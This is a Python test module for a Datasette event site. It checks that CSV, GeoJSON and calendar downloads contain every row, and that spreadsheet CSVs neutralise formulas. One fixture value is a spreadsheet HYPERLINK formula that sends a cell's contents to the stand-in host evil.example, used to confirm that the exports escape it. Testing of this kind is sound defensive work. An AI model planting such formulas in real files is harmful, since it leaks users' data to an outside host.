"""The downloads a reader is offered hold every row they claim, in a form the reader's program keeps.

A database of the published fixture with 2,000 generated events imported
beside it (more than Datasette's page of 100 and its 1,000-row cap), served
in process as `serve` configures it: each download link of the event list,
the places and the calendar is followed as a reader would, and the files are
read with the parsers a reader's program uses (Python's csv, geojson,
icalendar)."""

from __future__ import annotations

import asyncio
import csv
import functools
import html
import io
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from urllib.parse import urlsplit

import geojson
import pytest
import yaml
from datasette.app import Datasette
from icalendar import Calendar

from loader import PROJECT_ROOT
from loader.citation import metadata_permalink
from tests.support.generated import generated_db, query
from tests.support.site import in_process_site

# A streamed download is the page's 100 rows, then pages of Datasette's 1,000:
# 2,000 imported events make a full later page and a partial last one, for
# the imported events alone as for all, so a download that stops at the cap,
# after one later page or before a short last page misses rows.
EVENTS = 2000
BOM = "\ufeff"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AT_SUMMARY = "@SUM(1+1) was the summary"
MONTHS = "January|February|March|April|May|June|July|August|September|October|November|December"
# What Excel and LibreOffice read as a date or a number: a year, a month and year, a day, month and year.
SPREADSHEET_DATE = re.compile(rf"\d{{4}}|(?:{MONTHS}) \d{{4}}|\d{{1,2}} (?:{MONTHS}) \d{{4}}|\d{{4}}-\d\d-\d\d")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# Absolute links are on the site's permalink base, which metadata.yml sets.
BASE = metadata_permalink(yaml.safe_load((PROJECT_ROOT / "metadata.yml").read_text())) or ""


@pytest.fixture(scope="module")
def big_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The published fixture and 2,000 generated events; one month-precision
    event's title and summary are formulas, as an import could make them."""
    db = generated_db(tmp_path_factory.mktemp("downloads"), EVENTS)
    with closing(sqlite3.connect(db)) as conn:
        (event,) = conn.execute(
            "SELECT id FROM events WHERE date_precision = 'month' ORDER BY rowid LIMIT 1"
        ).fetchone()
        conn.execute("UPDATE events SET title = ?, summary = ? WHERE id = ?", [FORMULA, AT_SUMMARY, event])
        conn.commit()
    return db


@functools.cache
def site(db: Path) -> Datasette:
    """The in-process site over db, one for all the module's requests, which
    only read: a new one took about a second to answer its first."""
    return in_process_site(db)


def fetch_all(db: Path, paths: list[str]) -> dict[str, tuple[int, dict, bytes]]:
    """Each path's status, headers and body, from the in-process site over db."""

    async def run() -> dict[str, tuple[int, dict, bytes]]:
        ds = site(db)
        answers = {}
        for path in paths:
            response = await ds.client.get(path)
            answers[path] = (response.status_code, dict(response.headers), response.content)
        return answers

    return asyncio.run(run())


def fetch(db: Path, path: str) -> tuple[dict, bytes]:
    status, headers, body = fetch_all(db, [path])[path]
    assert status == 200, (path, body[:300])
    return headers, body


def links(page: str, text: str) -> list[str]:
    """The hrefs of the page's links whose text is `text`, unescaped."""
    return [html.unescape(href) for href in re.findall(rf'<a href="([^"]+)">{re.escape(text)}</a>', page)]


def on_site(url: str) -> str:
    """An absolute link of the site as the path and query the in-process site answers."""
    parts = urlsplit(url)
    return parts.path + (f"?{parts.query}" if parts.query else "")


def csv_rows(body: bytes) -> list[dict]:
    text = body.decode("utf-8")
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def test_every_download_link_of_a_long_list_holds_every_row(big_db: Path) -> None:
    """The event list's "CSV for Excel", CSV and GeoJSON links, unfiltered and
    filtered, and the places' GeoJSON: all the rows that match, not the page's
    100 or Datasette's 1,000; the page says how many that is."""
    every = {row[0] for row in query(big_db, "SELECT id FROM events")}
    imported = {row[0] for row in query(big_db, "SELECT id FROM events WHERE origin = 'acled'")}
    places = {row[0] for row in query(big_db, "SELECT id FROM places")}
    assert len(every) > EVENTS and len(imported) == EVENTS
    for page_path, expected in [
        ("/events/event_list", every),
        ("/events/event_list?origin=acled", imported),
        ("/events/place_list", places),
    ]:
        _, body = fetch(big_db, page_path)
        page = body.decode("utf-8")
        downloads = links(page, "CSV for Excel") + links(page, "CSV") + links(page, "geojson")
        assert len(downloads) == 3, (page_path, downloads)
        for link in downloads:
            headers, body = fetch(big_db, link)
            if "geojson" in link:
                collection = geojson.loads(body)
                assert collection.is_valid and collection["type"] == "FeatureCollection"
                got = [feature["properties"]["id"] for feature in collection["features"]]
            else:
                got = [row["id"] for row in csv_rows(body)]
            assert len(got) == len(expected) and set(got) == expected, (page_path, link, len(got))
        assert f"all {len(expected):,} rows that this page" in page, page_path


def test_the_calendar_feed_holds_every_event(big_db: Path) -> None:
    """The home page's "iCalendar feed" link: one entry for each of the 2,000-odd events."""
    every = {row[0] for row in query(big_db, "SELECT id FROM events")}
    _, body = fetch(big_db, "/")
    (link,) = links(body.decode("utf-8"), "iCalendar feed")
    headers, body = fetch(big_db, link)
    assert headers["content-type"].startswith("text/calendar")
    entries = Calendar.from_ical(body).walk("VEVENT")
    uids = [str(entry["uid"]) for entry in entries]
    assert len(uids) == len(every) and {uid.removesuffix("@event-store") for uid in uids} == every


def test_a_file_of_one_page_says_how_many_it_holds_and_where_the_rest_is(big_db: Path) -> None:
    """Asked for a page (no _stream=on), GeoJSON carries numberReturned,
    numberMatched and a next link, and a calendar its description, each with
    the URL of the whole file, which holds them all."""
    every = {row[0] for row in query(big_db, "SELECT id FROM events")}
    _, body = fetch(big_db, "/events/event_list.geojson?_size=5")
    page = json.loads(body)
    assert (page["numberReturned"], page["numberMatched"], len(page["features"])) == (5, len(every), 5)
    (following,) = [link["href"] for link in page["links"] if link["rel"] == "next"]
    assert following.startswith(BASE + "/events/event_list.geojson?")
    _, body = fetch(big_db, on_site(following))
    second = {feature["properties"]["id"] for feature in json.loads(body)["features"]}
    assert len(second) == 5 and not second & {feature["properties"]["id"] for feature in page["features"]}
    (whole,) = re.findall(rf"{re.escape(BASE)}\S+_stream=on", page["description"])
    _, body = fetch(big_db, on_site(whole))
    assert {feature["properties"]["id"] for feature in json.loads(body)["features"]} == every

    _, body = fetch(big_db, "/events/event_calendar.ics?_size=5")
    calendar = Calendar.from_ical(body)
    assert len(calendar.walk("VEVENT")) == 5
    said = str(calendar["x-wr-caldesc"])
    assert f"5 entries of {len(every):,}" in said
    (whole,) = re.findall(rf"{re.escape(BASE)}\S+_stream=on", said)
    _, body = fetch(big_db, on_site(whole))
    assert len(Calendar.from_ical(body).walk("VEVENT")) == len(every)


def test_geojson_is_geo_json_with_arrays_as_arrays_and_absolute_links(big_db: Path) -> None:
    """RFC 7946's media type; actor lists, aliases and the popup as JSON, not
    JSON text inside a string; the event's page and the popup's link absolute."""
    stored = {
        row[0]: (json.loads(row[1]), json.loads(row[2]), f"/events/events/{row[0]}")
        for row in query(big_db, "SELECT id, actor_ids, actor_names FROM event_list")
    }
    headers, body = fetch(big_db, "/events/event_list.geojson?_size=max")
    assert headers["content-type"].split(";")[0] == "application/geo+json"
    collection = geojson.loads(body)
    assert collection.is_valid
    for feature in collection["features"]:
        properties = feature["properties"]
        actor_ids, actor_names, url = stored[properties["id"]]
        assert (properties["actor_ids"], properties["actor_names"]) == (actor_ids, actor_names)
        assert properties["url"] == BASE + url  # made by the site: the view gives the id
        assert properties["popup"]["link"] == properties["url"]
    assert any(feature["properties"]["actor_names"] for feature in collection["features"])
    headers, body = fetch(big_db, "/events/place_list.geojson?_size=max")
    assert headers["content-type"].split(";")[0] == "application/geo+json"
    features = geojson.loads(body)["features"]
    assert all(isinstance(feature["properties"]["aliases"], list) for feature in features)
    assert all(urlsplit(feature["properties"]["popup"]["link"]).scheme == "http" for feature in features)


READER_PAGES = [
    "/events/event_list",
    "/events/event_list?origin=curated",
    "/events/place_list",
    "/events/actors",
    "/events/documents",
    "/events/claims",
    "/events/event_participants",
    "/events/event_calendar",
    "/events/document_dates",
]


def test_every_spreadsheet_csv_a_reader_is_offered_runs_nothing_and_keeps_date_labels(big_db: Path) -> None:
    """Every link to a CSV for a spreadsheet on the reader's pages (`_bom=on`):
    no cell a spreadsheet would run as a formula, and no date label it would
    turn into a date or a number; the formula event's title and a month's
    label come back with their leading quote, and the plain CSV as stored."""
    found: dict[str, list[str]] = {}
    for page_path, (status, _, body) in fetch_all(big_db, READER_PAGES).items():
        assert status == 200, page_path
        found[page_path] = [
            html.unescape(href) for href in re.findall(r'<a href="([^"]+)"', body.decode()) if "_bom=on" in href
        ]
        assert len(found[page_path]) == 2, (page_path, found[page_path])  # the page's, and the whole table's
    labels_seen: set[str] = set()
    cells_seen: set[str] = set()
    for link in sorted({link for page_links in found.values() for link in page_links}):
        headers, body = fetch(big_db, link)
        assert body.decode("utf-8").startswith(BOM), link
        for row in csv_rows(body):
            for column, cell in row.items():
                cells_seen.add(cell)
                assert not (cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(cell)), (
                    link,
                    column,
                    cell,
                )
                if column.endswith("_label"):
                    labels_seen.add(cell)
                    assert not SPREADSHEET_DATE.fullmatch(cell), (link, column, cell)
    assert "'" + FORMULA in cells_seen and "'" + AT_SUMMARY in cells_seen
    month_labels = {row[0] for row in query(big_db, "SELECT date_label FROM event_list WHERE date_precision = 'month'")}
    year_labels = {row[0] for row in query(big_db, "SELECT date_label FROM event_list WHERE date_precision = 'year'")}
    dates = {label for label in month_labels | year_labels if SPREADSHEET_DATE.fullmatch(label)}
    assert len(dates) > 10 and {"'" + label for label in dates} <= labels_seen
    assert any(label.startswith("between ") for label in labels_seen)  # text already: left as it is
    # The plain CSV, the one programs read, keeps every cell as stored.
    _, body = fetch(big_db, "/-/csv/events/event_list.csv")
    plain = csv_rows(body)
    assert {row["date_label"] for row in plain} >= month_labels | year_labels
    assert FORMULA in {row["title"] for row in plain}
